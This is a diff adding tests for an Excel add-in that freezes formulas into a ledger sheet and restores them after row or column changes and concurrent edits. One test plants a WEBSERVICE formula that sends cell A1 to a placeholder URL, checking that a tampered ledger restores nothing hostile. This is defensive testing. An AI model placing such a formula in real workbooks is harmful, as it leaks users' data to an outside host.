@@ -1,0 +1,132 @@
+/**
+ * The ledger in Excel: frozen cells are found again where rows and columns have come and gone (names follow
+ * their cells, documented), two people who freeze at once share no place, and a hostile ledger puts nothing back.
+ */
+import { createCellRegister } from "../../../src/cells/cell-register";
+import { columnName } from "../../../src/domain/columns";
+import { createFreezer } from "../../../src/workbook/freeze/freezer";
+import { createLedger, isLedgerSheet } from "../../../src/workbook/ledger/ledger";
+import type { Workbook } from "../../../src/workbook/port";
+import { createVirtualClock } from "../../helpers/virtual-clock";
+import type { NodeExcel } from "../../excel/excel-in-node";
+import { placeOf } from "../../excel/names";
+import { enter } from "../../excel/sheet";
+import { openWorkbook } from "./office-stage";
+
+function freezerOf(workbook: Workbook) {
+  const clock = { ...createVirtualClock(), random: Math.random };
+  return createFreezer({
+    ...{ workbook, clock, register: createCellRegister({ clock }) },
+    waiting: () => 0,
+    environmentId: () => "demo",
+  });
+}
+
+/** Stores, items, formulas in column C that differ by row, and a number beside them in H. */
+function plan(rows: number) {
+  const { excel, workbook } = openWorkbook("Plan");
+  const sheet = excel.sheet("Plan");
+  for (let row = 0; row < rows; row += 1) {
+    enter(sheet, row, 0, 1000 + row);
+    enter(sheet, row, 1, `'${10_000_000_000_000 + row}`);
+    enter(sheet, row, 2, `=INV.QTY(A${row + 1},B${row + 1})-H${row + 1}`);
+    enter(sheet, row, 7, 50 + row);
+    sheet.shown.set(`C${row + 1}`, row * 10);
+  }
+  return { excel, workbook, sheet, freezer: freezerOf(workbook) };
+}
+
+/** As Excel does: cells and the names of cells move. */
+function insert(excel: NodeExcel, what: "row" | "col", at: number): void {
+  const { cells } = excel.sheet("Plan");
+  const lines = [...cells].map(([row, line]) => [
+    what === "row" && row >= at ? row + 1 : row,
+    new Map([...line].map(([col, cell]) => [what === "col" && col >= at ? col + 1 : col, cell])),
+  ]) as [number, Map<number, never>][];
+  cells.clear();
+  for (const [row, line] of lines) cells.set(row, line);
+  for (const name of excel.names) {
+    const block = placeOf(name.formula)!.block;
+    const row = what === "row" && block.row >= at ? block.row + 1 : block.row;
+    const col = what === "col" && block.col >= at ? block.col + 1 : block.col;
+    name.formula = `='Plan'!$${columnName(col)}$${row + 1}`;
+  }
+}
+
+const formulas = async (workbook: Workbook): Promise<string[]> =>
+  (await workbook.findFormulas(() => true)).map(
+    ({ row, col, formula }) => `${columnName(col)}${row + 1} ${formula}`,
+  );
+
+it("after a row was inserted above, every formula thaws where its cell is now, and refers to what it did", async () => {
+  const { excel, workbook, freezer } = plan(10);
+  await freezer.freeze("workbook");
+  expect(excel.names.every(({ visible }) => !visible)).toBe(true);
+  insert(excel, "row", 0);
+  expect(await freezer.thaw("workbook")).toEqual({ cells: 10, left: [] });
+  expect(await formulas(workbook)).toEqual(
+    Array.from({ length: 10 }, (_, row) => `C${row + 2} =INV.QTY(A${row + 2},B${row + 2})-H${row + 2}`),
+  );
+  expect(excel.names).toEqual([]);
+});
+
+it("after a column was inserted beside them, formulas that would point elsewhere stay in the ledger, told", async () => {
+  const { excel, workbook, freezer } = plan(10);
+  await freezer.freeze("workbook");
+  insert(excel, "col", 5);
+  expect(await freezer.thaw("workbook")).toMatchObject({
+    cells: 0,
+    left: [{ reason: "What the formula refers to is another now", cells: { length: 10 } }],
+  });
+  expect(await formulas(workbook)).toEqual([]);
+  expect((await freezer.frozen())?.cells).toBe(10);
+});
+
+it("two people who freeze different cells at once lose none", async () => {
+  const { excel, workbook, sheet, freezer } = plan(10);
+  const other = freezerOf(workbook);
+  const before = await formulas(workbook);
+  const halves = [0, 5].map((row) => ({ row, col: 2, rows: 5, cols: 1 }));
+  excel.selection = { sheet: "Plan", blocks: [halves[0]!] };
+  const first = freezer.freeze("selection");
+  const second = other.freeze("workbook");
+  await Promise.allSettled([first, second]);
+  const lines = (await createLedger(workbook, Math.random).read())?.lines ?? [];
+  const kept = lines.map(({ at, entry }) => `C${at!.row + 1} ${entry.formula}`);
+  expect(new Set([...kept, ...(await formulas(workbook))])).toEqual(new Set(before));
+  expect(excel.sheets.filter(({ name }) => isLedgerSheet(name)).length).toBeGreaterThan(1);
+  expect(sheet.name).toBe("Plan");
+  await freezerOf(workbook).thaw("workbook");
+  expect((await formulas(workbook)).sort()).toEqual([...before].sort());
+});
+
+it("nothing but a formula of INV goes back, and none into a cell that is formatted as text", async () => {
+  const { excel, workbook, freezer } = plan(3);
+  await freezer.freeze("workbook");
+  const ledger = excel.sheets.find(({ name }) => isLedgerSheet(name))!;
+  enter(ledger, 2, 3, 'WEBSERVICE("https://example.com/"&A1)');
+  await workbook.format({ sheet: "Plan", row: 1, col: 2, rows: 1, cols: 1 }, { numberFormat: "@" });
+  const { cells, left } = await freezer.thaw("workbook");
+  expect(cells).toBe(1);
+  expect(left.map(({ reason }) => reason)).toEqual([
+    "The ledger holds no formula of INV for it",
+    "The cell is formatted as text",
+  ]);
+});
+
+it("what Excel fills in a Table over a cell that was left is written back", async () => {
+  const { excel, sheet, workbook, freezer } = plan(3);
+  await freezer.freeze("workbook");
+  enter(sheet, 1, 2, 77);
+  const write = workbook.write;
+  const filling = Object.assign(Object.create(workbook) as Workbook, {
+    write: async (...given: Parameters<Workbook["write"]>) => {
+      await write(...given);
+      for (const row of [0, 1, 2]) enter(sheet, row, 2, `=INV.QTY(A${row + 1},B${row + 1})-H${row + 1}`);
+    },
+  });
+  const { left } = await freezerOf(filling).thaw("workbook");
+  expect(left).toMatchObject([{ reason: "The value was changed after freezing", cells: [{ row: 1 }] }]);
+  expect(sheet.cells.get(1)?.get(2)).toBe(77);
+  expect(excel.sheet("Plan").cells.get(0)?.get(2)).toMatch(/^=INV/);
+});
